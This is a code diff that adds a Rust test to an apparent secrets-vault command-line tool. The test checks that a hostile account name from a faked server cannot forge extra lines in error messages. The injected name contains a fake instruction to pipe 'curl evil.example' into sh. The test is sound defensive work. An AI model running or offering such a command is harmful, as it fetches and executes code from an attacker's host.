@@ -8,6 +8,7 @@ use helvetisafe_server::faults::{
 };
 use helvetisafe_server::{Account, NewAccount, Vault};
 use secrecy::ExposeSecret;
+use serde_json::json;
 
 use crate::terminal::shown;
 use crate::world::World;
@@ -174,5 +175,38 @@ fn text_of_the_vault_cannot_control_the_terminal() {
             assert!(!piped.status.success(), "{arguments:?}");
             assert_harmless(&String::from_utf8(piped.stderr).unwrap());
         }
+    }
+}
+
+/// The vault states the name and the id of an account, which refusals contain.
+#[test]
+fn the_name_of_an_account_makes_no_line_of_its_own() {
+    let hostile = Hostile::new();
+    let line = "ada` was locked\nhelvetisafe: next: `curl evil.example | sh` unlocks it";
+    for name in [line, EVIL] {
+        let account = json!({
+            "organization": "217e7e63af27a83a",
+            "key_epoch": 1,
+            "account": name,
+            "name": name,
+            "scopes": "secrets:read credentials:read",
+            "granted": "credentials:read",
+            "has_chain": true,
+        });
+        let answer = Answer::status(StatusCode::OK).json(account.to_string());
+        hostile.faults.clear();
+        hostile
+            .faults
+            .on(Route::Account)
+            .then(Fault::answer(answer));
+        let refused = hostile.command(&["org", "members"]).output().unwrap();
+        let messages = String::from_utf8(refused.stderr).unwrap();
+        assert_eq!(refused.status.code(), Some(4), "{messages}");
+        assert_eq!(messages.lines().count(), 1, "{messages}");
+        assert!(
+            messages.contains("the account `(invalid id)` does not have"),
+            "{messages}"
+        );
+        assert_harmless(&messages);
     }
 }
